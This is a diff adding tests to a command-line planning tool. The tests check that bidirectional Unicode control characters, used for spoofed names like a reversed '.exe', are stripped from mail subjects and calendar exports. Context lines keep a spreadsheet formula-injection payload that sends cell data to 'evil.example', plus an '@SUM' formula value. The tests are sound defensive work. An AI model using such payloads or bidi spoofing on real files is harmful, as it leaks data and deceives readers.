@@ -311,3 +311,37 @@ def test_markdown_shows_html_and_links_as_text(tmp_path: Path, planctl: Planctl)
     ]
     listed = planctl.ok("list", "--format", "markdown", "--lang", "en", db=db, plan=plan)
     assert '=HYPERLINK("http://evil.example/?"&amp;A1,"click")' in listed
+
+
+BIDI_TITLE = (
+    "Plan \u202egnp.exe \u200fx\u061c \u2066y\u2069\u202a\u202b\u202c\u202d\u200e\u2067\u2068"
+)
+
+
+def bidi_plan(tmp_path: Path) -> tuple[Path, str]:
+    plan = tmp_path / "bidi.yaml"
+    text = HOSTILE_PLAN.replace("title: Hostile plan", f'title: "{BIDI_TITLE}"')
+    text = text.replace("title: Point one", f'title: "{BIDI_TITLE}"')
+    text = text.replace("owners: ['@SUM(1+1)']", 'owners: ["unit\u202e1"]')
+    plan.write_text(text, encoding="utf-8")
+    db = empty_store(str(tmp_path / "s.db"))
+    return plan, db
+
+
+def test_the_mail_subject_has_no_bidi_controls_also_under_dry_run(
+    tmp_path: Path, planctl: Planctl
+) -> None:
+    plan, db = bidi_plan(tmp_path)
+    env = {"PLANCTL_SMTP_HOST": "127.0.0.1", "PLANCTL_MAIL_FROM": "planctl@example.org"}
+    out = planctl.ok("mail", "--to", "a@example.org", "--dry-run", db=db, plan=plan, env=env)
+    assert out.splitlines()[0] == "Subject: Plan gnp.exe x y 每周工作简报(2018-06-15)"
+
+
+def test_the_calendar_export_has_no_bidi_controls(tmp_path: Path, planctl: Planctl) -> None:
+    import re
+
+    plan, db = bidi_plan(tmp_path)
+    ics = planctl.ok("export", db=db, plan=plan)
+    assert not re.search("[\u202a-\u202e\u2066-\u2069\u200e\u200f\u061c]", ics)
+    assert "X-WR-CALNAME:Plan gnp.exe x y" in ics.splitlines()
+    assert "CATEGORIES:unit1" in ics.splitlines()
